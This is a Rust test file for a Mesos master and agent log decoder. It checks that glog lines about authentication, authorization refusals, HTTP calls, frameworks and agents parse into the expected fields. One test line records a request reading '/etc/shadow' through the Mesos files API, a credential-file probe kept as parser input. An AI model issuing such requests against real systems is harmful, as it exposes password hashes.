//! One test per message kind: verbatim lines (from the dev corpus, or
//! worded as Mesos 1.11 logs them per mesos-logs.md) and the fields they must
//! yield; then malformed and hostile input.

use sightline_decode::{Assembler, DecodeOptions, Event, Outcome, Source, StreamInfo, tags};
use sightline_decode_mesos::MesosSource;
use std::sync::Arc;

mod common;

const MASTER: &str = "/var/log/mesos/mesos-master.mesos-m1.root.log.INFO.20261120-060000.13567";
const AGENT: &str = "/var/log/mesos/mesos-agent.mesos-a02.root.log.INFO.20261120-060025.11266";
const SANDBOX: &str = "/var/lib/mesos/slaves/c85990d2-e844-4762-939a-e232588efbce-S1/frameworks/c85990d2-e844-4762-939a-e232588efbce-0000/executors/kworker-sync.1dea343d-62bd-4dbd-a0f4-6220f1828119/runs/3a5db4ca-64be-494c-b6c2-d072e9613994";

fn decode_with(path: Option<&str>, opts: DecodeOptions, lines: &[&str]) -> Vec<Event> {
    let stream = match path {
        Some(p) => StreamInfo::for_path(p),
        None => StreamInfo {
            name: "-".into(),
            ..Default::default()
        },
    };
    let decoder = MesosSource.open(&stream, &opts);
    let mut asm = Assembler::new(decoder, stream, Arc::new(opts));
    let mut out = Vec::new();
    let mut offset = 0;
    for l in lines {
        out.extend(asm.push(l, offset));
        offset += l.len() as u64 + 1;
    }
    out.extend(asm.finish());
    out
}

fn decode(path: &str, lines: &[&str]) -> Vec<Event> {
    decode_with(Some(path), DecodeOptions::default(), lines)
}

fn one(path: &str, line: &str) -> Event {
    let mut evs = decode(path, &[line]);
    assert_eq!(evs.len(), 1);
    let ev = evs.remove(0);
    assert!(
        !ev.has_tag(tags::PARSE_FAILURE),
        "{line}: {:?}",
        ev.get_str("error.message")
    );
    ev
}

fn s<'a>(e: &'a Event, f: &str) -> Option<&'a str> {
    e.get_str(f)
}

fn f64_of(e: &Event, f: &str) -> Option<f64> {
    e.fields.get(f).and_then(|v| v.as_f64())
}

fn action(e: &Event) -> &str {
    e.action.as_deref().unwrap_or("")
}

// ---------------------------------------------------------------- the glog line

#[test]
fn glog_header_fields_and_time() {
    let e = one(
        MASTER,
        "W1120 07:58:42.629219 13625 authenticator.cpp:332] Authentication failure: authentication failure",
    );
    assert_eq!(e.timestamp.to_string(), "2026-11-20T07:58:42.629219Z");
    assert!(!e.has_tag(tags::TIMESTAMP_INFERRED));
    assert_eq!(e.level.as_deref(), Some("warning"));
    assert_eq!(e.get_i64("process.thread.id"), Some(13625));
    assert_eq!(e.get_i64("process.pid"), Some(13567));
    assert_eq!(s(&e, "log.origin.file.name"), Some("authenticator.cpp"));
    assert_eq!(e.get_i64("log.origin.file.line"), Some(332));
    assert_eq!(s(&e, "host.name"), Some("mesos-m1"));
    assert_eq!(s(&e, "service.name"), Some("mesos-master"));
    assert_eq!(e.dataset, "mesos.master");
    assert_eq!(e.module, "mesos");
    assert_eq!(e.message, "Authentication failure: authentication failure");
}

#[test]
fn padded_thread_ids_and_a_configured_zone() {
    let opts = DecodeOptions {
        timezone: jiff::tz::TimeZone::fixed(jiff::tz::offset(2)),
        ..Default::default()
    };
    let evs = decode_with(
        Some(AGENT),
        opts,
        &[
            "I1120 08:36:10.710222  9869 slave.cpp:1473] New master detected at master@10.20.0.12:5050",
        ],
    );
    assert_eq!(evs[0].timestamp.to_string(), "2026-11-20T06:36:10.710222Z");
    assert_eq!(evs[0].get_i64("process.thread.id"), Some(9869));
}

#[test]
fn file_header_gives_year_and_host_and_rolls_over() {
    let evs = decode_with(
        None,
        DecodeOptions::default(),
        &[
            "Log file created at: 2026/12/31 23:59:50",
            "Running on machine: mesos-m9",
            "Log line format: [IWEF]mmdd hh:mm:ss.uuuuuu threadid file:line] msg",
            "I1231 23:59:59.900000 100 master.cpp:2176] Elected as the leading master!",
            "I0101 00:00:00.100000 101 master.cpp:2176] Elected as the leading master!",
            "I1231 23:59:59.990000 102 master.cpp:2176] Elected as the leading master!",
        ],
    );
    assert_eq!(evs.len(), 6);
    assert_eq!(evs[0].timestamp.to_string(), "2026-12-31T23:59:50Z");
    assert!(evs.iter().all(|e| !e.has_tag(tags::PARSE_FAILURE)));
    assert_eq!(s(&evs[1], "host.name"), Some("mesos-m9"));
    assert_eq!(evs[3].timestamp.to_string(), "2026-12-31T23:59:59.9Z");
    assert_eq!(s(&evs[3], "host.name"), Some("mesos-m9"));
    assert_eq!(evs[4].timestamp.to_string(), "2027-01-01T00:00:00.1Z");
    assert_eq!(
        evs[5].timestamp.to_string(),
        "2026-12-31T23:59:59.99Z",
        "a straggler stays in the old year"
    );
    assert_eq!(
        evs[3].dataset, "mesos.master",
        "stdin: dataset from the source file"
    );
}

#[test]
fn year_from_file_name_then_option_then_modification_time() {
    let line = "I0315 10:00:00.000000 1 slave.cpp:1] x";
    // The file name's date wins over the configured year.
    let e = &decode_with(
        Some(AGENT),
        DecodeOptions {
            year: Some(2019),
            ..Default::default()
        },
        &[line],
    )[0];
    assert_eq!(
        e.timestamp.to_string(),
        "2027-03-15T10:00:00Z",
        "file created 2026-11-20, March is the next year"
    );
    let e = &decode_with(
        None,
        DecodeOptions {
            year: Some(2019),
            ..Default::default()
        },
        &[line],
    )[0];
    assert_eq!(e.timestamp.to_string(), "2019-03-15T10:00:00Z");
    let mut stream = StreamInfo {
        name: "x".into(),
        ..Default::default()
    };
    stream.modified = Some("2030-01-02T00:00:00Z".parse().unwrap());
    let opts = DecodeOptions::default();
    let mut asm = Assembler::new(MesosSource.open(&stream, &opts), stream, Arc::new(opts));
    assert!(
        asm.push("I1231 10:00:00.000000 1 slave.cpp:1] x", 0)
            .is_none()
    );
    let e = asm.finish().unwrap();
    assert_eq!(
        e.timestamp.to_string(),
        "2029-12-31T10:00:00Z",
        "before the modification time"
    );
}

#[test]
fn continuation_lines_join_the_record() {
    let evs = decode(
        MASTER,
        &[
            "W1120 06:00:00.801000 13567 master.cpp:480] ",
            "**************************************************",
            "Master bound to loopback interface! Cannot communicate with remote schedulers or agents. You might want to set '--ip' flag to a routable IP address.",
            "**************************************************",
            "I1120 06:00:00.802000 13567 master.cpp:502] Master only allowing authenticated frameworks to register",
        ],
    );
    assert_eq!(evs.len(), 2);
    assert!(evs[0].has_tag(tags::MULTILINE));
    assert!(evs[0].message.contains("Master bound to loopback"));
    assert!(!evs[0].has_tag(tags::PARSE_FAILURE));
    assert_eq!(action(&evs[1]), "configuration");
}

#[test]
fn a_line_that_is_not_glog_in_a_glog_file_is_a_parse_failure() {
    let evs = decode(
        MASTER,
        &[
            "garbage at the start",
            "I1120 06:00:00.802000 13567 master.cpp:502] ok",
        ],
    );
    assert_eq!(evs.len(), 2);
    assert!(evs[0].has_tag(tags::PARSE_FAILURE));
    assert_eq!(evs[0].original, "garbage at the start");
    assert!(!evs[1].has_tag(tags::PARSE_FAILURE));
}

#[test]
fn link_stub_content_is_not_a_failure() {
    let e = one(
        "/var/log/mesos/mesos-master.INFO",
        "mesos-master.mesos-m1.root.log.INFO.20261120-083621.6322",
    );
    assert_eq!(
        e.labels.get("link_target").map(String::as_str),
        Some("mesos-master.mesos-m1.root.log.INFO.20261120-083621.6322")
    );
}

// ---------------------------------------------------------------- authentication

#[test]
fn cram_md5_master_side() {
    let e = one(
        MASTER,
        "I1120 07:58:42.629345 13622 master.cpp:9807] Authentication of scheduler-b430590b-c1fa-4cf2-895d-faca94c40225@10.20.17.203:37420 was unsuccessful: Invalid credentials",
    );
    assert_eq!(action(&e), "authentication-failed");
    assert_eq!(e.outcome, Outcome::Failure);
    assert_eq!(e.category, ["authentication"]);
    assert_eq!(s(&e, "source.ip"), Some("10.20.17.203"));
    assert_eq!(e.get_i64("source.port"), Some(37420));
    assert_eq!(
        s(&e, "mesos.upid"),
        Some("scheduler-b430590b-c1fa-4cf2-895d-faca94c40225@10.20.17.203:37420")
    );
    assert_eq!(s(&e, "error.message"), Some("Invalid credentials"));

    let e = one(
        MASTER,
        "I1120 08:36:10.733857  9886 master.cpp:9802] Successfully authenticated principal 'agent' at slave(1)@10.20.1.25:5051",
    );
    assert_eq!(
        (action(&e), e.outcome),
        ("authentication-succeeded", Outcome::Success)
    );
    assert_eq!(
        (s(&e, "user.name"), s(&e, "mesos.principal")),
        (Some("agent"), Some("agent"))
    );
    assert_eq!(s(&e, "source.ip"), Some("10.20.1.25"));

    let e = one(
        MASTER,
        "I1120 08:36:10.729845  9846 master.cpp:9770] Authenticating slave(1)@10.20.1.25:5051",
    );
    assert_eq!(action(&e), "authentication-started");
    assert_eq!(s(&e, "source.ip"), Some("10.20.1.25"));

    let e = one(
        MASTER,
        "W1120 08:00:00.000000  9846 master.cpp:9812] An error ocurred while attempting to authenticate scheduler-1@10.0.0.9:4000: Authentication timed out",
    );
    assert_eq!(
        (action(&e), e.outcome),
        ("authentication-failed", Outcome::Failure)
    );
    assert_eq!(s(&e, "source.ip"), Some("10.0.0.9"));
    assert_eq!(s(&e, "error.message"), Some("Authentication timed out"));

    let e = one(
        MASTER,
        "E1120 08:00:00.000000  9846 master.cpp:9700] Received authentication request from scheduler-1@10.0.0.9:4000 but authenticator is not loaded",
    );
    assert_eq!(action(&e), "authentication-failed");
    assert_eq!(s(&e, "source.ip"), Some("10.0.0.9"));

    let e = one(
        MASTER,
        "I1120 08:00:00.000000  9846 master.cpp:9830] Authentication of scheduler-1@10.0.0.9:4000 was discarded",
    );
    assert_eq!(action(&e), "authentication-discarded");
}

#[test]
fn sasl_steps() {
    let e = one(
        MASTER,
        "W1120 07:58:42.629219 13625 authenticator.cpp:332] Authentication failure: user not found",
    );
    assert_eq!(
        (action(&e), e.outcome),
        ("sasl-authentication-failed", Outcome::Failure)
    );
    assert_eq!(s(&e, "error.message"), Some("user not found"));
    let e = one(
        MASTER,
        "I1120 08:36:10.733119  9875 authenticator.cpp:318] Authentication success",
    );
    assert_eq!(
        (action(&e), e.outcome),
        ("sasl-authentication-succeeded", Outcome::Success)
    );
    for l in [
        "I1120 08:36:10.729969  9871 authenticator.cpp:98] Creating new server SASL connection",
        "I1120 08:36:10.732053  9869 authenticator.cpp:204] Received SASL authentication start",
        "I1120 08:36:10.732120  9865 authenticator.cpp:326] Authentication requires more steps",
        "I1120 06:00:36.948486 15847 authenticatee.cpp:213] Received SASL authentication mechanisms: CRAM-MD5",
        "I1120 06:00:36.948512 15838 authenticatee.cpp:239] Attempting to authenticate with mechanism 'CRAM-MD5'",
    ] {
        assert_eq!(action(&one(MASTER, l)), "sasl-authentication-step", "{l}");
    }
}

#[test]
fn agent_side_authentication_names_the_agent_principal() {
    let evs = decode(
        AGENT,
        &[
            "I1120 06:00:36.736091 15835 slave.cpp:314] Agent using credential for: agent",
            "I1120 06:00:36.943484 15852 slave.cpp:1565] Authenticating with master master@10.20.0.11:5050",
            "I1120 06:00:36.952677 15816 slave.cpp:1665] Successfully authenticated with master master@10.20.0.11:5050",
            "W1120 06:00:37.000000 15816 slave.cpp:1633] Failed to authenticate with master master@10.20.0.11:5050: Authentication failed",
            "W1120 06:00:37.000000 15816 authenticatee.cpp:400] Authentication failed; secret needed by CRAM-MD5 authenticatee",
        ],
    );
    assert_eq!(action(&evs[0]), "configuration");
    assert_eq!(s(&evs[0], "user.name"), Some("agent"));
    assert_eq!(action(&evs[1]), "authentication-started");
    assert_eq!(
        (action(&evs[2]), s(&evs[2], "user.name")),
        ("authentication-succeeded", Some("agent"))
    );
    assert_eq!(s(&evs[2], "destination.ip"), Some("10.20.0.11"));
    assert_eq!(
        (action(&evs[3]), evs[3].outcome),
        ("authentication-failed", Outcome::Failure)
    );
    assert_eq!(s(&evs[3], "error.message"), Some("Authentication failed"));
    assert_eq!(s(&evs[3], "user.name"), Some("agent"));
    assert_eq!(action(&evs[4]), "authentication-failed");
}

#[test]
fn admission_refusals() {
    let e = one(
        MASTER,
        "W1120 10:56:08.298717  9869 master.cpp:6239] Refusing registration of agent at slave(1)@172.31.44.9:5051 because it is not authenticated",
    );
    assert_eq!(
        (action(&e), e.outcome),
        ("agent-registration-refused", Outcome::Failure)
    );
    assert!(e.category.iter().any(|c| c == "authentication"));
    assert_eq!(s(&e, "source.ip"), Some("172.31.44.9"));
    assert_eq!(s(&e, "error.type"), Some("unauthenticated"));

    let e = one(
        MASTER,
        "W1120 10:56:08.298717  9869 master.cpp:6322] Refusing registration of agent at slave(1)@172.31.44.9:5051 (ip-172-31-44-9): Not authorized to register agent providing resources 'cpus:96; mem:773000' with principal 'agent'",
    );
    assert_eq!(action(&e), "authorization-denied");
    assert_eq!(
        (s(&e, "user.name"), s(&e, "source.ip")),
        (Some("agent"), Some("172.31.44.9"))
    );
    assert_eq!(s(&e, "mesos.agent.hostname"), Some("ip-172-31-44-9"));

    let e = one(
        MASTER,
        "I1120 09:18:37.908887  9875 master.cpp:3020] Refusing subscription of framework 'analytics-jobs' at scheduler-ed8dc0a8-06c4-4b19-aff3-3a660d15a7a9@10.20.2.51:34102: Not authorized to register framework  with roles { infra }",
    );
    assert_eq!(
        (action(&e), e.outcome),
        ("authorization-denied", Outcome::Failure)
    );
    assert_eq!(e.category, ["iam"]);
    assert_eq!(s(&e, "mesos.framework.name"), Some("analytics-jobs"));
    assert_eq!(s(&e, "source.ip"), Some("10.20.2.51"));
    assert_eq!(s(&e, "mesos.role"), Some("infra"));

    let e = one(
        MASTER,
        "I1120 09:18:37.908887  9875 master.cpp:2747] Refusing subscription of framework 'web': Not authorized to register framework  with roles { prod, web }",
    );
    assert_eq!(action(&e), "authorization-denied");
    assert_eq!(
        e.get("user.roles"),
        Some(sightline_event::FieldRef::List(&[
            "prod".to_owned(),
            "web".to_owned()
        ]))
    );

    let e = one(
        MASTER,
        "I1120 09:18:37.908887  9875 master.cpp:3040] Dropping SUBSCRIBE call for framework 'spark' at scheduler-1@10.0.0.9:4000: Framework is not authenticated",
    );
    assert_eq!(
        (action(&e), e.category.as_slice()),
        (
            "framework-subscription-refused",
            &["authentication".to_owned()][..]
        )
    );
    assert_eq!(s(&e, "source.ip"), Some("10.0.0.9"));

    let e = one(
        MASTER,
        "W1120 09:18:37.908887  9875 master.cpp:6800] Agent c85990d2-e844-4762-939a-e232588efbce-S4 at slave(1)@10.9.9.9:5051 (gpu-a05) attempted to reregister with different IP / hostname; expected 10.20.1.25 (gpu-a05) shutting it down",
    );
    assert_eq!(
        (action(&e), s(&e, "error.type")),
        ("agent-registration-refused", Some("address-mismatch"))
    );
    assert_eq!(s(&e, "source.ip"), Some("10.9.9.9"));
    assert_eq!(
        s(&e, "mesos.agent.id"),
        Some("c85990d2-e844-4762-939a-e232588efbce-S4")
    );

    let e = one(
        MASTER,
        "E1120 09:18:37.908887  9875 master.cpp:2900] Disallowing subscription attempt of framework c85990d2-e844-4762-939a-e232588efbce-0000 (marathon) because it is not expected from scheduler-x@10.6.6.6:4444",
    );
    assert_eq!(
        (action(&e), s(&e, "source.ip")),
        ("framework-subscription-refused", Some("10.6.6.6"))
    );
    assert_eq!(
        s(&e, "mesos.framework.id"),
        Some("c85990d2-e844-4762-939a-e232588efbce-0000")
    );

    let e = one(
        MASTER,
        "W1120 09:18:37.908887  9875 master.cpp:4100] Ignoring launch tasks message for offers [ c85990d2-e844-4762-939a-e232588efbce-O1 ] from 'scheduler-x@10.6.6.6:4444' because it is not from the registered framework c85990d2-e844-4762-939a-e232588efbce-0000 (marathon) at scheduler-d@10.20.0.31:53800",
    );
    assert_eq!(
        (action(&e), s(&e, "source.ip")),
        ("unexpected-sender", Some("10.6.6.6"))
    );
    assert_eq!(
        s(&e, "mesos.offer.id"),
        Some("c85990d2-e844-4762-939a-e232588efbce-O1")
    );

    let e = one(
        MASTER,
        "W1120 09:18:37.908887  9875 master.cpp:1634] Dropping message mesos.internal.LaunchTasksMessage from scheduler-x@10.6.6.6:4444(spark): capacity(100) exceeded",
    );
    assert_eq!(
        (action(&e), s(&e, "user.name"), s(&e, "source.ip")),
        ("rate-limited", Some("spark"), Some("10.6.6.6"))
    );
}

#[test]
fn authorization_checks_and_denials() {
    let e = one(
        MASTER,
        "I1120 08:36:10.740969  9848 master.cpp:3794] Authorizing principal 'agent' to perform action REGISTER_AGENT on ANY object",
    );
    assert_eq!(action(&e), "authorization-check");
    assert_eq!(
        (s(&e, "user.name"), s(&e, "mesos.authorization.action")),
        (Some("agent"), Some("REGISTER_AGENT"))
    );

    let e = one(
        MASTER,
        "I1120 09:19:21.864794  9869 master.cpp:8212] Sending status update TASK_ERROR (Status UUID: be0d9a26-732f-4e9d-934e-504285a7f363) for task hostfs-sync-0-c255f046 of framework 04948682-4233-4b55-bff9-59b7c7fda173-0001 'Principal 'analytics' no authorized to launch task hostfs-sync-0-c255f046 of framework 04948682-4233-4b55-bff9-59b7c7fda173-0001 under user 'root''",
    );
    assert_eq!(
        (action(&e), e.outcome),
        ("authorization-denied", Outcome::Failure)
    );
    assert_eq!(s(&e, "user.name"), Some("analytics"));
    assert_eq!(s(&e, "mesos.task.user"), Some("root"));
    assert_eq!(s(&e, "mesos.task.id"), Some("hostfs-sync-0-c255f046"));
    assert_eq!(s(&e, "mesos.task.state"), Some("TASK_ERROR"));
    assert_eq!(s(&e, "mesos.task.reason"), Some("REASON_TASK_UNAUTHORIZED"));
    assert_eq!(s(&e, "mesos.task.source"), Some("SOURCE_MASTER"));
    assert_eq!(
        s(&e, "mesos.framework.id"),
        Some("04948682-4233-4b55-bff9-59b7c7fda173-0001")
    );

    let e = one(
        MASTER,
        "W1120 09:00:00.000000  9869 master.cpp:4208] Dropping RESERVE operation from framework c85990d2-e844-4762-939a-e232588efbce-0002 (ml) at scheduler-z@10.1.1.1:1: Principal 'mlbatch' no authorized to reserve resources",
    );
    assert_eq!(
        (action(&e), s(&e, "user.name")),
        ("authorization-denied", Some("mlbatch"))
    );
    assert_eq!(s(&e, "mesos.operation.type"), Some("RESERVE"));

    let e = one(
        AGENT,
        "E1120 09:00:00.000000  9869 slave.cpp:2720] Authorization failed for task 't1' of framework c85990d2-e844-4762-939a-e232588efbce-0002: denied",
    );
    assert_eq!(
        (action(&e), s(&e, "mesos.task.id")),
        ("authorization-denied", Some("t1"))
    );

    let e = one(
        MASTER,
        "W1120 09:00:00.000000  9869 validation.cpp:632] Framework c85990d2-e844-4762-939a-e232588efbce-0002 which had a principal  'mlbatch' tried to (re)subscribe with a new principal  'root'",
    );
    assert_eq!(
        (action(&e), s(&e, "user.name")),
        ("framework-principal-changed", Some("root"))
    );
    assert_eq!(
        e.labels.get("previous_principal").map(String::as_str),
        Some("mlbatch")
    );
}

// ---------------------------------------------------------------- HTTP and APIs

#[test]
fn http_requests_and_responses() {
    let e = one(
        MASTER,
        "I1120 06:56:21.133182 13618 http.cpp:1436] HTTP GET for /master/tasks?limit=10000 from 10.20.14.77:37675 with User-Agent='python-requests/2.31.0'",
    );
    assert_eq!(action(&e), "http-request");
    assert_eq!(
        (e.category.as_slice(), e.event_type.as_slice()),
        (&["web".to_owned()][..], &["access".to_owned()][..])
    );
    assert_eq!(s(&e, "http.request.method"), Some("GET"));
    assert_eq!(
        (s(&e, "url.path"), s(&e, "url.query")),
        (Some("/master/tasks"), Some("limit=10000"))
    );
    assert_eq!(
        (s(&e, "source.ip"), e.get_i64("source.port")),
        (Some("10.20.14.77"), Some(37675))
    );
    assert_eq!(s(&e, "user_agent.original"), Some("python-requests/2.31.0"));

    let e = one(
        MASTER,
        "I1120 08:36:30.345397  9871 http.cpp:1453] HTTP GET for /master/state from 10.20.5.10:59336: '200 OK' after 30.9745ms",
    );
    assert_eq!((action(&e), e.outcome), ("http-response", Outcome::Success));
    assert_eq!(e.get_i64("http.response.status_code"), Some(200));
    assert_eq!(e.get_i64("event.duration"), Some(30_974_500));
    assert_eq!(s(&e, "source.ip"), Some("10.20.5.10"));

    let e = one(
        MASTER,
        "I1120 06:56:21.133182 13618 http.cpp:1436] HTTP POST for /master/api/v1 from 10.0.0.1:1 with User-Agent='it's (odd)' with X-Forwarded-For='45.148.10.92, 10.0.0.1'",
    );
    assert_eq!(s(&e, "user_agent.original"), Some("it's (odd)"));
    assert_eq!(
        e.labels.get("x_forwarded_for").map(String::as_str),
        Some("45.148.10.92, 10.0.0.1")
    );

    let e = one(
        MASTER,
        "I1120 06:56:21.133182 13618 http.cpp:1436] HTTP GET for /files/read?path=/etc/shadow&offset=0 from [2001:db8::5]:40000",
    );
    assert_eq!(
        (s(&e, "source.ip"), s(&e, "url.path")),
        (Some("2001:db8::5"), Some("/files/read"))
    );
    assert_eq!(s(&e, "url.query"), Some("path=/etc/shadow&offset=0"));

    let e = one(
        MASTER,
        "I1120 09:06:45.158031  6369 http.cpp:1768] Redirecting request for /master/state to the leading master mesos-m2",
    );
    assert_eq!(
        (action(&e), s(&e, "url.path")),
        ("http-redirect", Some("/master/state"))
    );
}

#[test]
fn operator_agent_and_scheduler_calls() {
    let e = one(
        MASTER,
        "I1120 09:10:38.220222  9882 http.cpp:277] Processing call TEARDOWN",
    );
    assert_eq!(
        (action(&e), s(&e, "mesos.call")),
        ("api-call", Some("TEARDOWN"))
    );
    assert!(e.event_type.iter().any(|t| t == "admin"));
    let e = one(
        MASTER,
        "I1120 07:39:32.831599 13621 http.cpp:277] Processing call GET_STATE",
    );
    assert_eq!(e.event_type, ["access"]);

    let e = one(
        AGENT,
        "I1120 07:39:32.831599 13621 http.cpp:3300] Processing LAUNCH_NESTED_CONTAINER_SESSION call for container '3a5db4ca-64be-494c-b6c2-d072e9613994'",
    );
    assert_eq!(
        (action(&e), s(&e, "mesos.call")),
        ("api-call", Some("LAUNCH_NESTED_CONTAINER_SESSION"))
    );
    assert_eq!(
        s(&e, "mesos.container.id"),
        Some("3a5db4ca-64be-494c-b6c2-d072e9613994")
    );
    assert!(e.category.iter().any(|c| c == "process"));
    let e = one(
        AGENT,
        "I1120 07:39:32.831599 13621 http.cpp:3300] Processing READ_FILE call for path '/var/lib/mesos/slaves'",
    );
    assert_eq!(s(&e, "file.path"), Some("/var/lib/mesos/slaves"));
    let e = one(
        AGENT,
        "I1120 07:39:32.831599 13621 http.cpp:3300] Processing SET_LOGGING_LEVEL call for level 3",
    );
    assert_eq!(
        (
            action(&e),
            e.labels.get("logging_level").map(String::as_str)
        ),
        ("logging-level-changed", Some("3"))
    );

    let e = one(
        MASTER,
        "I1120 09:04:43.617684  9869 master.cpp:10362] Processing TEARDOWN call for framework 04948682-4233-4b55-bff9-59b7c7fda173-0000 (feature-backfill) at scheduler-ecce219f-748d-4ae8-aa57-c0c8bdf929d4@10.20.2.40:52092",
    );
    assert_eq!(
        (action(&e), s(&e, "mesos.call")),
        ("framework-teardown", Some("TEARDOWN"))
    );
    assert_eq!(
        (s(&e, "mesos.framework.name"), s(&e, "source.ip")),
        (Some("feature-backfill"), Some("10.20.2.40"))
    );

    let e = one(
        MASTER,
        "I1120 08:37:25.025719  9848 master.cpp:4356] Processing ACCEPT call for offers: [ 04948682-4233-4b55-bff9-59b7c7fda173-O22 ] on agent c85990d2-e844-4762-939a-e232588efbce-S1 at slave(1)@10.20.1.22:5051 (mesos-a02) for framework c85990d2-e844-4762-939a-e232588efbce-0001 (chronos) at scheduler-30213dc5-c4d1-407d-b1be-775f853f2d9a@10.20.0.32:49035",
    );
    assert_eq!(
        (action(&e), s(&e, "mesos.call")),
        ("scheduler-call", Some("ACCEPT"))
    );
    assert_eq!(
        s(&e, "mesos.offer.id"),
        Some("04948682-4233-4b55-bff9-59b7c7fda173-O22")
    );
    assert_eq!(
        s(&e, "mesos.agent.id"),
        Some("c85990d2-e844-4762-939a-e232588efbce-S1")
    );
    assert_eq!(
        (
            s(&e, "mesos.framework.name"),
            s(&e, "source.ip"),
            s(&e, "destination.ip")
        ),
        (Some("chronos"), Some("10.20.0.32"), Some("10.20.1.22"))
    );

    let e = one(
        MASTER,
        "I1120 08:35:58.084160 13589 master.cpp:5434] Processing DECLINE call for offers: [ c85990d2-e844-4762-939a-e232588efbce-O3385, c85990d2-e844-4762-939a-e232588efbce-O3386 ] for framework c85990d2-e844-4762-939a-e232588efbce-0001 (chronos) at scheduler-30213dc5-c4d1-407d-b1be-775f853f2d9a@10.20.0.32:49035 with 5 seconds filter",
    );
    assert_eq!(
        e.fields
            .get("mesos.offer.id")
            .and_then(|v| if let sightline_decode::Value::List(l) = v {
                Some(l.len())
            } else {
                None
            }),
        Some(2)
    );
    assert_eq!(
        e.labels.get("filter").map(String::as_str),
        Some("5 seconds")
    );

    let e = one(
        MASTER,
        "I1120 08:37:26.128195  9879 master.cpp:5870] Processing ACKNOWLEDGE call for status f244830f-e8d2-4b91-82ae-ed15143edd3c for task ct:1795163845000:0:db-backup: of framework c85990d2-e844-4762-939a-e232588efbce-0001 (chronos) at scheduler-30213dc5-c4d1-407d-b1be-775f853f2d9a@10.20.0.32:49035 on agent c85990d2-e844-4762-939a-e232588efbce-S1",
    );
    assert_eq!(
        s(&e, "mesos.task.id"),
        Some("ct:1795163845000:0:db-backup:")
    );
    assert_eq!(
        s(&e, "mesos.task.status_uuid"),
        Some("f244830f-e8d2-4b91-82ae-ed15143edd3c")
    );

    let e = one(
        MASTER,
        "I1120 08:37:26.128195  9879 master.cpp:5700] Processing KILL call for task 'web.1' of framework c85990d2-e844-4762-939a-e232588efbce-0000 (marathon) at scheduler-d@10.20.0.31:53800",
    );
    assert_eq!(
        (action(&e), s(&e, "mesos.task.id")),
        ("job-stopped", Some("web.1"))
    );
}

// ---------------------------------------------------------------- frameworks

#[test]
fn framework_lifecycle() {
    let e = one(
        MASTER,
        "I1120 08:36:12.380485  9886 master.cpp:2962] Received SUBSCRIBE call for framework 'chronos' at scheduler-30213dc5-c4d1-407d-b1be-775f853f2d9a@10.20.0.32:49035",
    );
    assert_eq!(
        (
            action(&e),
            s(&e, "mesos.framework.name"),
            s(&e, "source.ip")
        ),
        (
            "framework-subscribe-received",
            Some("chronos"),
            Some("10.20.0.32")
        )
    );
    let e = one(
        MASTER,
        "I1120 08:36:18.231090  9879 master.cpp:2672] Received subscription request for HTTP framework 'ml-batch-scheduler'",
    );
    assert_eq!(s(&e, "mesos.framework.name"), Some("ml-batch-scheduler"));
    let e = one(
        MASTER,
        "I1120 09:32:01.610099  9848 master.cpp:3048] Subscribing framework Spark Pi with checkpointing disabled and capabilities [  ]",
    );
    assert_eq!(
        (action(&e), s(&e, "mesos.framework.name")),
        ("framework-subscribed", Some("Spark Pi"))
    );
    let e = one(
        MASTER,
        "I1120 08:36:18.231723  9869 master.cpp:2760] Subscribing framework 'ml-batch-scheduler' with checkpointing enabled and capabilities [ MULTI_ROLE, GPU_RESOURCES ]",
    );
    assert_eq!(s(&e, "mesos.framework.name"), Some("ml-batch-scheduler"));
    assert_eq!(
        e.get("mesos.framework.capabilities"),
        Some(sightline_event::FieldRef::List(&[
            "MULTI_ROLE".to_owned(),
            "GPU_RESOURCES".to_owned()
        ]))
    );
    let e = one(
        MASTER,
        "I1120 09:32:01.610181  9852 master.cpp:10001] Adding framework 04948682-4233-4b55-bff9-59b7c7fda173-0002 (Spark Pi) at scheduler-289de23e-b847-482a-b81c-a358ac6177ec@10.20.2.40:33976 with roles {  } suppressed",
    );
    assert_eq!(
        (
            action(&e),
            s(&e, "mesos.framework.id"),
            s(&e, "mesos.framework.name")
        ),
        (
            "framework-added",
            Some("04948682-4233-4b55-bff9-59b7c7fda173-0002"),
            Some("Spark Pi")
        )
    );
    assert_eq!(s(&e, "source.ip"), Some("10.20.2.40"));
    let e = one(
        MASTER,
        "I1120 09:48:20.707198  9869 master.cpp:10374] Removing framework 04948682-4233-4b55-bff9-59b7c7fda173-0002 (Spark Pi) at scheduler-289de23e-b847-482a-b81c-a358ac6177ec@10.20.2.40:33976",
    );
    assert_eq!(action(&e), "framework-removed");
    let e = one(
        MASTER,
        "I1120 08:44:55.296372  9869 hierarchical.cpp:789] Added framework 04948682-4233-4b55-bff9-59b7c7fda173-0000",
    );
    assert_eq!(action(&e), "allocator-framework-added");
    let e = one(
        MASTER,
        "I1120 08:44:55.296372  9869 master.cpp:3185] Framework c85990d2-e844-4762-939a-e232588efbce-0000 (marathon) at scheduler-d@10.20.0.31:53800 failed over",
    );
    assert_eq!(action(&e), "framework-failed-over");
    let e = one(
        MASTER,
        "I1120 08:44:55.296372  9869 hierarchical.cpp:1500] Suppressed offers for roles { ml } of framework c85990d2-e844-4762-939a-e232588efbce-0002",
    );
    assert_eq!(
        (action(&e), s(&e, "mesos.role")),
        ("allocator-framework-changed", Some("ml"))
    );
}

// ---------------------------------------------------------------- agents

#[test]
fn agent_lifecycle() {
    let e = one(
        MASTER,
        "I1120 10:57:04.191039  9879 master.cpp:6263] Received register agent message from slave(1)@172.31.44.9:5051 (ip-172-31-44-9)",
    );
    assert_eq!(
        (
            action(&e),
            s(&e, "source.ip"),
            s(&e, "mesos.agent.hostname")
        ),
        (
            "agent-registration-received",
            Some("172.31.44.9"),
            Some("ip-172-31-44-9")
        )
    );
    let e = one(
        MASTER,
        "I1120 10:57:04.193485  9865 master.cpp:6442] Registering agent at slave(1)@172.31.44.9:5051 (ip-172-31-44-9) with id 04948682-4233-4b55-bff9-59b7c7fda173-S0",
    );
    assert_eq!(
        (action(&e), s(&e, "mesos.agent.id")),
        (
            "agent-registering",
            Some("04948682-4233-4b55-bff9-59b7c7fda173-S0")
        )
    );
    let e = one(
        MASTER,
        "I1120 10:57:04.201084  9871 master.cpp:6535] Registered agent 04948682-4233-4b55-bff9-59b7c7fda173-S0 at slave(1)@172.31.44.9:5051 (ip-172-31-44-9) with cpus:96; mem:773000; disk:1900000; ports:[31000-32000]",
    );
    assert_eq!(
        (action(&e), e.outcome),
        ("node-registered", Outcome::Success)
    );
    assert_eq!(
        (s(&e, "source.ip"), s(&e, "mesos.agent.id")),
        (
            Some("172.31.44.9"),
            Some("04948682-4233-4b55-bff9-59b7c7fda173-S0")
        )
    );
